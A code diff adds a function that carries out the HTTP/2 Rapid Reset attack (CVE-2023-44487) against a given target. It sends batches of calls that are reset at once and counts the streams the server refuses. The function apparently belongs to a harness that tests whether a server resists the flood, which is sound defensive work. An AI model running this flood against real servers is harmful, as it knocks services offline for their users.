@@ -79,3 +79,39 @@ class RawH2:
 
     def close(self) -> None:
         self.sock.close()
+
+
+REFUSED_STREAM, CANCEL = 7, 8  # RST_STREAM error codes
+
+
+def rapid_reset(target: str, method: str, message: bytes, batches: int, batch: int, between) -> list[int]:
+    """Rapid reset (CVE-2023-44487) on one raw connection: `batches` times, `batch` calls of `method` each reset
+    (CANCEL) as soon as it is sent, then `between()` (e.g. another channel's call, checked); the streams the server
+    refused (RST_STREAM REFUSED_STREAM), read by a live peer meanwhile."""
+    import threading
+    h = RawH2(target)
+    refused, done = [], threading.Event()
+
+    def read():  # acknowledges SETTINGS and PINGs, and counts the streams refused
+        try:
+            while not done.is_set():
+                kind, flags, sid, payload = h.read_frame()
+                h.serve_control(kind, flags, payload)
+                if kind == RST_STREAM and int.from_bytes(payload, "big") == REFUSED_STREAM:
+                    refused.append(sid)
+        except (ConnectionError, OSError):
+            return
+
+    threading.Thread(target=read, daemon=True).start()
+    try:
+        for _ in range(batches):
+            out = []
+            for _ in range(batch):
+                sid, h.next_stream = h.next_stream, h.next_stream + 2
+                out.append(call_frames(sid, method, message) + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
+            h.sock.sendall(b"".join(out))
+            between()
+    finally:
+        done.set()
+        h.close()
+    return refused
